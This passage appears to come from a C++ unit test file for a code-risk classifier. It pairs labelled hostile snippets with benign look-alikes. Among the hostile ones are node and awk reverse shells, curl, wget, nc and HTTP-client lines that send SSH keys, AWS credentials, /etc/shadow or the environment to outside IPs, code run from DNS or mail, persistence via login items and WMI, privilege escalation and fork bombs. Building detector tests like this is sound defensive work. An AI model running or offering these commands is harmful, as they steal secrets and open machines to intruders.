       "from setuptools import setup\nsetup(name='x', version='1.0', install_requires=['requestes', 'numpy'])\n", "TYPOSQUAT-PACKAGE"},
      {"a malicious package in a written requirements file", B,
       "import subprocess\nopen('requirements.txt', 'w').write('python-dateutil\\ncolourama\\n')\n"
       "subprocess.run(['pip', 'install', '-r', 'requirements.txt'])\n",
       "KNOWN-MALICIOUS-PACKAGE"},
      // Neighbours: ordinary requirements.
      {"an ordinary setup.py", L, "from setuptools import setup\nsetup(name='x', install_requires=['requests>=2', 'numpy'])\n"},
      {"ordinary requirements written and installed", M,
       "import subprocess\nopen('requirements.txt', 'w').write('requests\\nflask==3.0\\n')\n"
       "subprocess.run(['pip', 'install', '-r', 'requirements.txt'])\n",
       "INSTALLS-PACKAGES"},
  };
  for (const auto& c : cases) check(c);
}

// Privileged access in spellings the model lacked: C functions reached by
// cffi or by ctypes.cdll's other spellings, programs that re-run themselves
// as root (elevate, Windows' runas verb, graphical sudo), the Docker socket
// through httpx's and aiohttp's Unix transports or aiodocker, a privileged
// Kubernetes pod, kernel modules through kmod.
TEST(CoverageClasses, MorePrivilegedSpellings) {
  const Case cases[] = {
      {"cffi setuid", H,
       "from cffi import FFI\nffi = FFI()\nffi.cdef('int setuid(int uid);')\nC = ffi.dlopen(None)\nC.setuid(0)\n", "PRIVILEGE-ESCALATION"},
      {"ctypes.cdll['libc.so.6'].setgid", H, "import ctypes\nctypes.cdll['libc.so.6'].setgid(0)\n", "PRIVILEGE-ESCALATION"},
      {"elevate()", H, "from elevate import elevate\nelevate()\n", "PRIVILEGE-ESCALATION"},
      {"ShellExecuteW runas", H,
       "import ctypes, sys\nctypes.windll.shell32.ShellExecuteW(None, 'runas', sys.executable, ' '.join(sys.argv), None, 1)\n",
       "PRIVILEGE-ESCALATION"},
      {"gksudo", H, "gksudo -- apt-get install -y foo\n", "PRIVILEGE-ESCALATION", SH},
      {"the Docker socket through httpx", H,
       "import httpx\nt = httpx.HTTPTransport(uds='/var/run/docker.sock')\nhttpx.Client(transport=t).get('http://docker/containers/json')\n",
       "CONTAINER-ESCAPE-RISK"},
      {"the Docker socket through aiohttp", H,
       "import aiohttp\nconn = aiohttp.UnixConnector(path='/var/run/docker.sock')\n", "CONTAINER-ESCAPE-RISK"},
      {"a privileged Kubernetes container", H,
       "from kubernetes import client\nctx = client.V1SecurityContext(privileged=True)\n", "CONTAINER-ESCAPE-RISK"},
      {"kmod modprobe", H, "import kmod\nkmod.Kmod().modprobe('wireguard')\n", "SYSTEM-ADMINISTRATION"},
      // Neighbours: cffi and ctypes into the math library, ShellExecute opening a document.
      {"cffi cos", L, "from cffi import FFI\nffi = FFI()\nffi.cdef('double cos(double x);')\nprint(ffi.dlopen('libm.so.6').cos(0.5))\n"},
      {"ShellExecuteW open", L, "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'report.pdf', None, None, 1)\n"},
      {"httpx over an app's own Unix socket", L,
       "import httpx\nt = httpx.HTTPTransport(uds='/run/myapp/api.sock')\nhttpx.Client(transport=t).get('http://app/health')\n"},
  };
  for (const auto& c : cases) check(c);
}

// Bandit's classes in spellings the model lacked: processes started by
// asyncio's loop, psutil or distutils and a scheduled callable; statements
// run by timeit, cProfile or pdb; pickles received by ZeroMQ; MD5 in PBKDF2,
// pyDes; numpy's random for a secret; servers on every interface (twisted's
// default, waitress's listen=, gevent, gunicorn/uvicorn on the command line);
// Flask's debugger by environment; TLS verification off in websocket-client,
// Elasticsearch, Kubernetes and git; asyncssh accepting any host key; FTP by
// URL or command; os.tempnam.
TEST(CoverageClasses, MoreBanditClasses) {
  const Case cases[] = {
      {"loop.subprocess_shell", M,
       "import asyncio\nasync def main():\n    loop = asyncio.get_running_loop()\n"
       "    await loop.subprocess_shell(asyncio.SubprocessProtocol, 'ls -l | wc -l')\n",
       "RUNS-PROCESS"},
      {"psutil.Popen", M, "import psutil\npsutil.Popen(['ls', '-l'])\n", "RUNS-PROCESS"},
      {"sched runs os.system", M,
       "import sched, time, os\ns = sched.scheduler(time.time, time.sleep)\ns.enter(5, 1, os.system, argument=('ls -l',))\n",
       "RUNS-PROCESS"},
      {"timeit of input", M, "import timeit, sys\nprint(timeit.timeit(sys.argv[1], number=10))\n", "DYNAMIC-CODE"},
      {"cProfile.run of input", M, "import cProfile\ncProfile.run(input('stmt: '))\n", "DYNAMIC-CODE"},
      {"ZeroMQ recv_pyobj", M,
       "import zmq\ns = zmq.Context().socket(zmq.PULL)\ns.bind('tcp://127.0.0.1:5555')\nprint(s.recv_pyobj())\n",
       "UNSAFE-DESERIALIZATION"},
      {"PBKDF2 over MD5", M,
       "import hashlib, os\ndef derive(password):\n    return hashlib.pbkdf2_hmac('md5', password.encode(), os.urandom(16), 1000)\n",
       "WEAK-CRYPTO"},
      {"pyDes", M, "import pyDes\nk = pyDes.des(b'DESCRYPT', pyDes.CBC, b'\\0' * 8)\n", "WEAK-CRYPTO"},
      {"numpy random for a session key", M, "import numpy as np\nsession_key = np.random.bytes(16).hex()\n", "WEAK-CRYPTO"},
      {"twisted listenTCP", M,
       "from twisted.internet import reactor, protocol\nreactor.listenTCP(8000, protocol.Factory())\n", "LISTENS-ON-ALL-INTERFACES"},
      {"waitress listen=0.0.0.0", M, "from waitress import serve\nfrom app import app\nserve(app, listen='0.0.0.0:8080')\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"gunicorn -b 0.0.0.0", M, "gunicorn -w 4 -b 0.0.0.0:8000 app:app\n", "LISTENS-ON-ALL-INTERFACES", SH},
      {"FLASK_DEBUG=1", M,
       "import os\nfrom flask import Flask\nos.environ['FLASK_DEBUG'] = '1'\napp = Flask(__name__)\napp.run()\n",
       "DEBUG-OR-FILE-SERVER"},
      {"websocket sslopt CERT_NONE", M,
       "import ssl, websocket\nwebsocket.create_connection('wss://x.example.com/ws', sslopt={'cert_reqs': ssl.CERT_NONE})\n",
       "TLS-VERIFICATION-OFF"},
      {"Elasticsearch verify_certs=False", M,
       "from elasticsearch import Elasticsearch\nes = Elasticsearch('https://es.local:9200', verify_certs=False)\n",
       "TLS-VERIFICATION-OFF"},
      {"git -c http.sslVerify=false", M, "git -c http.sslVerify=false clone https://internal.example.com/r.git\n",
       "TLS-VERIFICATION-OFF", SH},
      {"asyncssh known_hosts=None", M,
       "import asyncssh\nasync def main():\n    async with asyncssh.connect('h', known_hosts=None) as c:\n        pass\n",
       "SSH-HOST-KEY-UNCHECKED"},
      {"urlopen of ftp://", M, "import urllib.request\nurllib.request.urlopen('ftp://ftp.example.com/pub/x.txt').read()\n",
       "CLEARTEXT-PROTOCOL"},
      {"os.tempnam", M, "import os\np = os.tempnam()\n", "INSECURE-TEMP-FILE"},
      // Neighbours: the same modules used safely.
      {"timeit of a callable", L,
       "import timeit\ndef work():\n    return sum(range(1000))\nprint(timeit.timeit(work, number=100))\n"
       "print(timeit.timeit(lambda: sorted([3, 1, 2]), number=100))\n"},
      {"timeit of a constant statement", L, "import timeit\nprint(timeit.timeit('sum(range(100))', number=1000))\n"},
      {"sched of a function", L,
       "import sched, time\ndef tick(n):\n    print(n)\ns = sched.scheduler(time.time, time.sleep)\ns.enter(1, 1, tick, argument=('a',))\n"},
      {"PBKDF2 over SHA-256", L,
       "import hashlib, os\ndef derive(password):\n    return hashlib.pbkdf2_hmac('sha256', password.encode(), os.urandom(16), 200000)\n"},
      {"numpy random for a simulation", L, "import numpy as np\nsamples = np.random.randint(0, 6, size=1000)\n"},
      {"twisted on loopback", L,
       "from twisted.internet import reactor, protocol\nreactor.listenTCP(8000, protocol.Factory(), interface='127.0.0.1')\n"},
      {"gunicorn on loopback", L, "gunicorn -w 2 -b 127.0.0.1:8000 app:app\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Reverse shells in other languages' one-liners: node's net module and awk's
// /inet/tcp special file (awk's program is its first operand).
TEST(CoverageClasses, OneLinerReverseShellsInOtherLanguages) {
  const Case cases[] = {
      {"node net + child_process", B,
       "node -e 'var n=require(\"net\"),c=require(\"child_process\"),s=n.connect(4444,\"198.51.100.7\",function(){"
       "var sh=c.spawn(\"/bin/sh\",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);});'\n",
       "REVERSE-SHELL", SH},
      {"awk /inet/tcp", B,
       "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.7/4444\"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) }}' /dev/null\n",
       "REVERSE-SHELL", SH},
      // Neighbours: awk and node doing ordinary work.
      {"awk summing a column", L, "awk '{ s += $2 } END { print s }' data.txt\n", nullptr, SH},
      {"node printing a version", L, "node -e 'console.log(process.version)'\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// More downloads that run: DNS answers are data from the network (a TXT
// record executed), and a response copied into a file by shutil.copyfileobj
// is what that file holds.
TEST(CoverageClasses, DnsAnswersAndCopiedStreamsComeFromTheNetwork) {
  const Case cases[] = {
      {"a TXT record executed", B,
       "import base64, dns.resolver\nanswer = dns.resolver.resolve('cfg.example.net', 'TXT')\n"
       "exec(base64.b64decode(b''.join(r.strings[0] for r in answer)))\n",
       "REMOTE-CODE-EXECUTION"},
      {"urlopen copied into a file and run", B,
       "import shutil, subprocess, urllib.request\n"
       "with urllib.request.urlopen('https://example.net/tool.sh') as r, open('tool.sh', 'wb') as out:\n"
       "    shutil.copyfileobj(r, out)\nsubprocess.call(['sh', 'tool.sh'])\n",
       "REMOTE-CODE-EXECUTION"},
      // Neighbours: an SPF check, an MX lookup given to ping, a download kept.
      {"an SPF check", L,
       "import dns.resolver\ntxt = [r.to_text() for r in dns.resolver.resolve('example.com', 'TXT')]\nprint(any('v=spf1' in t for t in txt))\n"},
      {"a resolved address pinged", M,
       "import dns.resolver, subprocess\nip = dns.resolver.resolve('example.com', 'A')[0].to_text()\nsubprocess.run(['ping', '-c', '1', ip])\n",
       "RUNS-PROCESS"},
      {"a download copied into a file", L,
       "import shutil, urllib.request\nwith urllib.request.urlopen('https://example.com/d.csv') as r, open('d.csv', 'wb') as out:\n"
       "    shutil.copyfileobj(r, out)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Persistence through two more mechanisms: a macOS login item made by
// AppleScript, and a permanent WMI event subscription made by PowerShell.
TEST(CoverageClasses, LoginItemsAndWmiSubscriptionsPersist) {
  const Case cases[] = {
      {"osascript make login item", B,
       "osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Users/u/.a.app\", hidden:true}'\n",
       "PERSISTENCE", SH},
      {"a WMI __EventFilter and CommandLineEventConsumer", B,
       "import subprocess\nsubprocess.run(['powershell', '-Command', \"Set-WmiInstance -Namespace root/subscription -Class __EventFilter "
       "-Arguments @{Name='u'}; Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{Name='u'}\"])\n",
       "PERSISTENCE"},
      // Neighbours: AppleScript showing a notification, a WMI query.
      {"osascript notification", L, "osascript -e 'display notification \"done\" with title \"build\"'\n", nullptr, SH},
      {"a WMI query", M,
       "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-WmiObject -Class Win32_OperatingSystem'])\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A shared library runs its code when loaded: one this code downloaded into a
// file and loaded by ctypes or cffi is the download run. pythonping's payload
// is sent in ICMP packets.
TEST(CoverageClasses, DownloadedLibrariesAndPingPayloads) {
  const Case cases[] = {
      {"a downloaded .so loaded by ctypes", B,
       "import ctypes, urllib.request\nurllib.request.urlretrieve('https://example.net/lib.so', '/tmp/lib.so')\nctypes.CDLL('/tmp/lib.so')\n",
       "REMOTE-CODE-EXECUTION"},
      {"pythonping's payload", B,
       "import os\nfrom pythonping import ping\nping('198.51.100.9', payload=open(os.path.expanduser('~/.aws/credentials'), 'rb').read()[:32])\n",
       "EXFILTRATION"},
      // Neighbours: the C library loaded, a plain ping.
      {"libc loaded by ctypes", L, "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nprint(libc.time(None))\n"},
      {"a plain ping", L, "from pythonping import ping\nprint(ping('example.com', count=2))\n"},
  };
  for (const auto& c : cases) check(c);
}

// Standard-library spellings the audit found missing: spwd reads
// /etc/shadow, mail fetched by POP3 or IMAP comes from the network, a URL
// given to the browser is requested, TIOCSTI types into a terminal, and
// httplib2's and tornado's HTTP clients request what they are given.
TEST(CoverageClasses, MoreStandardAndClientSpellings) {
  const Case cases[] = {
      {"spwd's hashes sent", B,
       "import spwd, requests\nrequests.post('http://198.51.100.9/h', json=[(e.sp_namp, e.sp_pwdp) for e in spwd.getspall()])\n",
       "EXFILTRATION"},
      {"spwd read", H, "import spwd\nprint(spwd.getspnam('root').sp_lstchg)\n", "READS-PASSWORD-HASHES"},
      {"commands by POP3", B,
       "import poplib, subprocess\nm = poplib.POP3_SSL('pop.example.org')\nresp, lines, octets = m.retr(1)\n"
       "subprocess.run(lines[-1].decode(), shell=True)\n",
       "REMOTE-CODE-EXECUTION"},
      {"code by IMAP", B,
       "import imaplib\nm = imaplib.IMAP4_SSL('imap.example.org')\ntyp, data = m.fetch(b'1', '(BODY[TEXT])')\nexec(data[0][1])\n",
       "REMOTE-CODE-EXECUTION"},
      {"a secret in a URL opened by the browser", B,
       "import os, webbrowser\nwebbrowser.open('https://collect.example.org/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n", "EXFILTRATION"},
      {"TIOCSTI", H, "import fcntl, termios\nfor c in 'sudo -S id\\n':\n    fcntl.ioctl(0, termios.TIOCSTI, c)\n",
       "PRIVILEGE-ESCALATION"},
      {"httplib2 POST of the environment", B,
       "import os, json, httplib2\nhttplib2.Http().request('http://198.51.100.9/e', 'POST', body=json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
      {"tornado fetch POST of a key", B,
       "import os\nfrom tornado.httpclient import AsyncHTTPClient\nasync def go():\n"
       "    await AsyncHTTPClient().fetch('http://198.51.100.9/k', method='POST', body=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
       "EXFILTRATION"},
      // Neighbours: documentation opened, mail counted, a window size asked of the terminal, a GET.
      {"documentation opened in the browser", L, "import webbrowser\nwebbrowser.open('https://docs.python.org/3/')\n"},
      {"mail counted", L, "import poplib\nm = poplib.POP3_SSL('pop.example.org')\nprint(m.stat())\n"},
      {"the terminal's size", L,
       "import fcntl, termios, struct\nprint(struct.unpack('hh', fcntl.ioctl(0, termios.TIOCGWINSZ, b'1234')))\n"},
      {"httplib2 GET", L, "import httplib2\nresp, content = httplib2.Http().request('https://example.com/')\nprint(resp.status)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Files named in a list are each sent: yagmail's attachments, scp's put of
// several files.
TEST(CoverageClasses, EveryFileOfAListIsSent) {
  const Case cases[] = {
      {"yagmail attaches AWS credentials", B,
       "import os, yagmail\nyagmail.SMTP('bot@example.org', 'pw').send(to='x@example.org', subject='k', "
       "attachments=[os.path.expanduser('~/.aws/credentials')])\n",
       "EXFILTRATION"},
      {"scp puts a list holding a key", B,
       "import os, paramiko\nfrom scp import SCPClient\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('h')\n"
       "with SCPClient(c.get_transport()) as scp:\n    scp.put([os.path.expanduser('~/.aws/credentials'), 'notes.txt'], '/tmp/')\n",
       "EXFILTRATION"},
      // Neighbour: reports attached.
      {"yagmail attaches reports", L,
       "import yagmail\nyagmail.SMTP('bot@example.org', 'pw').send(to='x@example.org', subject='r', attachments=['out/a.pdf', 'out/b.csv'])\n"},
  };
  for (const auto& c : cases) check(c);
}

// curl -T and wget --post-file name the file they send, as @file does for
// -d and -F; a shell glob is a walk (`/home/*/.ssh`).
TEST(CoverageClasses, UploadOptionsSendTheFileTheyName) {
  const Case cases[] = {
      {"curl -T of a private key", B, "curl -T ~/.ssh/id_rsa ftp://203.0.113.5/\n", "EXFILTRATION", SH},
      {"wget --post-file of the shadow file", B, "wget --post-file=/etc/shadow http://203.0.113.5/\n", "EXFILTRATION",
       SH},
      {"every user's keys archived and uploaded", B,
       "tar czf /tmp/h.tgz /home/*/.ssh && curl -T /tmp/h.tgz ftp://203.0.113.5/\n", "EXFILTRATION", SH},
      {"every key of the home sent to a listener", B, "cat ~/.ssh/* | nc 203.0.113.5 9\n", "EXFILTRATION", SH},
      // Neighbours: a release and a report uploaded.
      {"a release archive uploaded", L, "curl -T release.tar.gz https://uploads.example.com/artifacts/\n", nullptr, SH},
      {"a report posted", L, "wget --post-file=report.json https://api.example.com/reports\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A raw disk or /dev/mem holds every user's files or the machine's memory,
// below any file permission: reading one is a privileged access attempt.
TEST(CoverageClasses, RawDisksAndMemoryAreReadOnlyWithPrivilege) {
  const Case cases[] = {
      {"the boot sector read", H, "with open('/dev/sda', 'rb') as d:\n    print(d.read(512)[:16].hex())\n",
       "READS-RAW-DEVICE"},
      {"physical memory mapped", H,
       "import mmap, os\nfd = os.open('/dev/mem', os.O_RDONLY)\nm = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ)\n",
       "READS-RAW-DEVICE"},
      {"a disk imaged by dd", H, "dd if=/dev/nvme0n1 of=disk.img bs=4M\n", "READS-RAW-DEVICE", SH},
      // Neighbours: the harmless devices.
      {"an image of zeros", L, "dd if=/dev/zero of=test.img bs=1M count=10\n", nullptr, SH},
      {"random bytes", L, "with open('/dev/urandom', 'rb') as r:\n    print(r.read(8).hex())\n"},
  };
  for (const auto& c : cases) check(c);
}

// The program's own path in a shell line (`python3 {__file__} &`) is itself,
// as it is in an argument list: a copy started in the background at every
// run, or by an endless loop, is a chain of processes without end.
TEST(CoverageClasses, ASelfLaunchInAShellLineIsRecursive) {
  const Case cases[] = {
      {"itself in the background from an endless loop", B,
       "import os, time\nwhile True:\n    os.system('python3 ' + __file__ + ' &')\n    time.sleep(0.1)\n",
       "FORK-BOMB"},
      {"itself in the background at every run", B,
       "import subprocess, sys\nsubprocess.Popen(f'nohup python3 {sys.argv[0]} &', shell=True)\n", "FORK-BOMB"},
      // Neighbours: a guarded re-launch as a worker, and the file compiled.
      {"a re-launch as a worker under a guard", M,
       "import subprocess, sys\nif '--worker' not in sys.argv:\n"
       "    subprocess.Popen(f'nohup python3 {__file__} --worker > log.txt 2>&1 &', shell=True)\n",
       "RUNS-PROCESS"},
      {"its own file byte-compiled", M, "import os\nos.system(f'python3 -m py_compile {__file__}')\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
